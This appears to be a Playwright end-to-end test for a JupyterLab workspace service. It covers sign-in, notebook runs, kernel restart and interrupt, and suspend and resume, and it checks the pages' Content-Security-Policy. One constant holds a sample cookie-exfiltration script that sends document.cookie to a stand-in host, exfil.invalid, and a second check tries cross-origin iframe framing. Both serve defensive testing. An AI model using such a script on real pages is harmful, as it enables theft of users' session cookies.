"""A person in a browser: headless Chromium (Debian's, driven by Playwright) signs
in to the dashboard, creates a workspace, opens it in nbfleet's JupyterLab, runs a
notebook, restarts and interrupts its kernel, suspends the workspace from the
dashboard with the Lab tab still open, resumes, and carries on with its variables.
All of it under the pages' Content-Security-Policy, which refuses nothing Lab does,
lets a cell's output script run (Jupyter's trust model) but not reach another site,
and keeps Lab out of another site's frames.

Screenshots of each step go to ``test-artifacts/browser/`` (or
``$NBFLEET_E2E_SCREENSHOTS``), for a person to look at.
"""

from __future__ import annotations

import contextlib
import http.server
import os
import re
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.cluster import Cluster, wait_state

playwright_api = pytest.importorskip("playwright.sync_api")

pytestmark = [pytest.mark.timeout(420), pytest.mark.db_agnostic]

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
#: Debian's Chromium, not a downloaded one; the flags keep it off the network.
FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync"]
#: Each refusal of the page's Content-Security-Policy, as a console line and in
#: ``window.nbfleetViolations`` (an init script is not itself subject to the policy).
REPORT_VIOLATIONS = """
window.nbfleetViolations = [];
document.addEventListener('securitypolicyviolation', (e) => {
  const line = `CSP violation: ${e.effectiveDirective} ${e.blockedURI}`;
  window.nbfleetViolations.push(line);
  console.log(line);
});
"""
#: A cell whose HTML output runs a script that reads the page and sends it away.
EXFILTRATE = ("from IPython.display import HTML; display(HTML('<b id=\"probe\">not run</b>"
              "<script>document.getElementById(\"probe\").textContent = \"inline script ran\";"
              " fetch(\"https://exfil.invalid/?c=\" + document.cookie).catch(() => 0);"
              "</script>'))")
SHOTS = Path(os.environ.get("NBFLEET_E2E_SCREENSHOTS",
                            Path(__file__).resolve().parents[2] / "test-artifacts" / "browser"))


@pytest.fixture(scope="module")
def shots() -> Path:
    shutil.rmtree(SHOTS, ignore_errors=True)
    SHOTS.mkdir(parents=True)
    return SHOTS


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    if not Path(CHROMIUM).exists():
        pytest.fail(f"Chromium is not installed at {CHROMIUM} (apt-get install chromium)")
    with playwright_api.sync_playwright() as p:
        instance = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield instance
        instance.close()


@contextlib.contextmanager
def serving(html: str) -> Iterator[str]:
    """The URL of a page of another origin (this host, another port) showing ``html``."""
    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()


class Cells:
    """The open notebook, as a person uses it: type in the active cell, run it."""

    def __init__(self, page: object) -> None:
        self.page = page

    def idle(self, timeout: float = 90_000) -> None:
        """Wait until the status bar says the notebook's kernel is connected and idle."""
        self.page.locator(".jp-StatusBar-TextItem").filter(  # type: ignore[attr-defined]
            has_text=re.compile(r"\| Idle")).first.wait_for(timeout=timeout)

    def run(self, code: str) -> None:
        """In the last cell, which Shift+Enter leaves empty and ready."""
        page = self.page
        page.locator(".jp-Notebook .jp-Cell .cm-content").last.click()  # type: ignore
        page.keyboard.type(code)  # type: ignore[attr-defined]
        page.keyboard.press("Shift+Enter")  # type: ignore[attr-defined]

    def output(self, pattern: str, timeout: float = 90_000) -> None:
        """Wait until some cell's output matches ``pattern`` (a screenshot if never)."""
        try:
            self.page.locator(".jp-OutputArea-output").filter(  # type: ignore[attr-defined]
                has_text=re.compile(pattern)).first.wait_for(timeout=timeout)
        except Exception:
            self.page.screenshot(path=SHOTS / "failed.png")  # type: ignore[attr-defined]
            raise


def test_a_notebook_survives_suspend_with_the_lab_tab_open(shared_cluster: Cluster,
                                                          browser: object, shots: Path) -> None:
    token = shared_cluster.new_user().headers["Authorization"].split()[1]
    context = browser.new_context(viewport={"width": 1400, "height": 900})  # type: ignore
    server_errors: list[str] = []
    context.on("response", lambda r: server_errors.append(f"{r.status} {r.url}")
               if r.status >= 500 else None)
    dialogs: list[str] = []
    console = (shots / "console.log").open("w")
    context.on("console", lambda m: console.write(f"{m.type}: {m.text}\n"))
    # Whatever the Content-Security-Policy refuses, on any page (Lab's own code too).
    violations: list[str] = []
    context.add_init_script(REPORT_VIOLATIONS)
    context.on("console", lambda m: violations.append(m.text)
               if m.text.startswith("CSP violation") else None)

    # Sign in.
    page = context.new_page()
    page.goto(f"{shared_cluster.url}/")
    page.wait_for_url(re.compile(r"/ui/login"))
    page.get_by_label("API token").fill(token)
    page.get_by_role("button", name="Sign in").click()
    page.get_by_role("heading", name="Workspaces").wait_for()
    page.screenshot(path=shots / "01-signed-in.png")

    # Create a workspace.
    page.get_by_role("link", name="New workspace").click()
    page.get_by_label("Name").fill("browser-e2e")
    page.get_by_role("button", name="Create workspace").click()
    page.wait_for_url(re.compile(r"/ui/workspaces/ws_"))
    workspace_id = re.search(r"(ws_[a-z0-9]+)", page.url).group(1)  # type: ignore[union-attr]
    owner = shared_cluster.client(token)
    wait_state(owner, workspace_id, "running", timeout=90)
    page.reload()
    page.screenshot(path=shots / "02-workspace.png")

    # Open it in JupyterLab, in a tab of its own, and start a notebook.
    page.get_by_role("link", name=re.compile("Open in JupyterLab")).first.click()
    page.wait_for_url(re.compile(rf"/w/{workspace_id}/lab"))
    lab = page
    lab.on("dialog", lambda d: dialogs.append(d.message))
    lab.locator(".jp-LauncherCard[data-category='Notebook']").first.click()
    lab.locator(".jp-Notebook").wait_for()
    cells = Cells(lab)
    cells.idle()
    cells.run("import os; print('kernel in', os.path.basename(os.getcwd()) or '/')")
    cells.output("kernel in")
    lab.screenshot(path=shots / "03-lab-first-cell.png")

    # Jupyter's trust model holds under Lab's policy: the script in an output of the
    # user's own cell runs. Sending what it reads to another site is refused.
    cells.run(EXFILTRATE)
    cells.output("inline script ran")
    lab.wait_for_function("window.nbfleetViolations.some(v => v.includes('exfil.invalid'))",
                          timeout=30_000)

    # Restart: no "the kernel appears to have died" from a restart that was asked for.
    lab.get_by_role("menuitem", name="Kernel").click()
    lab.get_by_role("menuitem", name=re.compile(r"^Restart Kernel…")).click()
    lab.locator(".jp-Dialog .jp-Dialog-button.jp-mod-accept").click()
    lab.wait_for_timeout(1500)
    cells.idle()
    assert lab.locator(".jp-Dialog").filter(has_text=re.compile("died|Restarting")).count() == 0
    lab.screenshot(path=shots / "04-after-restart.png")

    # Interrupt a long cell.
    lab.locator(".jp-Notebook .jp-Cell").last.click()
    cells.run("import time; time.sleep(60)")
    lab.locator(".jp-StatusBar-TextItem").filter(has_text=re.compile(r"\| Busy")).first.wait_for(
        timeout=30_000)
    lab.get_by_role("menuitem", name="Kernel").click()
    lab.get_by_role("menuitem", name="Interrupt Kernel").click()
    cells.output("KeyboardInterrupt", timeout=30_000)
    assert lab.locator(".jp-Dialog").filter(has_text=re.compile("died|Restarting")).count() == 0
    lab.screenshot(path=shots / "05-after-interrupt.png")

    # Variables, and a file written by kernel code that Lab's file browser shows.
    cells.run("counter = 41\nopen('from_kernel.txt', 'w').write('written by the kernel')")
    lab.locator(".jp-DirListing-item", has_text="from_kernel.txt").wait_for(timeout=45_000)
    lab.keyboard.press("Control+s")  # the first save asks for a name
    rename = lab.locator(".jp-Dialog")
    rename.locator("input.jp-mod-styled, input[type='text']").first.fill("journey.ipynb")
    rename.locator(".jp-Dialog-button.jp-mod-accept").click()
    lab.locator(".jp-DirListing-item", has_text="journey.ipynb").wait_for(timeout=30_000)
    lab.screenshot(path=shots / "06-kernel-file-in-browser.png")

    # Suspend from the dashboard, in another tab, with the Lab tab still open.
    dashboard = context.new_page()
    dashboard.goto(f"{shared_cluster.url}/ui/workspaces/{workspace_id}")
    dashboard.get_by_role("button", name="Suspend").first.click()
    wait_state(owner, workspace_id, "suspended", timeout=90)
    dashboard.reload()
    dashboard.screenshot(path=shots / "07-suspended-in-dashboard.png")
    kernels = owner.get(f"/v1/workspaces/{workspace_id}/api/kernels").json()
    assert [k["execution_state"] for k in kernels] == ["suspended"]
    lab.bring_to_front()
    lab.wait_for_timeout(5000)  # Lab reconnects and polls meanwhile: neither wakes it
    lab.screenshot(path=shots / "08-lab-while-suspended.png")
    assert owner.get(f"/v1/workspaces/{workspace_id}").json()["state"] == "suspended"

    # Resume from the dashboard; the next cell in the same Lab tab sees the variable.
    dashboard.get_by_role("button", name="Resume").first.click()
    wait_state(owner, workspace_id, "running", timeout=90)
    lab.bring_to_front()
    cells.run("print('counter is', counter + 1)")
    cells.output(r"counter is 42")
    lab.screenshot(path=shots / "09-variables-after-resume.png")

    assert not server_errors, server_errors
    assert not dialogs, dialogs
    # Lab itself ran without a single refusal; the one seen was the cell's.
    assert [v for v in violations if "exfil.invalid" not in v] == [], violations
    assert any("connect-src" in v and "exfil.invalid" in v for v in violations), violations

    # Another origin cannot frame Lab (clickjacking). One on the same host, another
    # port: the same site, so the browser sends the session cookie into the frame
    # and only Lab's own policy ('self', where the dashboard's is 'none') stops it.
    framer = context.new_page()
    with serving(f'<iframe src="{shared_cluster.url}/w/{workspace_id}/lab"></iframe>'
                 ) as elsewhere, framer.expect_console_message(
            lambda m: "frame-ancestors 'self'" in m.text, timeout=30_000):
        framer.goto(elsewhere)
    assert framer.frames[-1].url.startswith("chrome-error:")
    # The notebook saved in Lab is a workspace file.
    names = [f["path"] for f in owner.get(f"/v1/workspaces/{workspace_id}/files"
                                          ).json()["files"]]
    assert "journey.ipynb" in names and "from_kernel.txt" in names
    context.close()
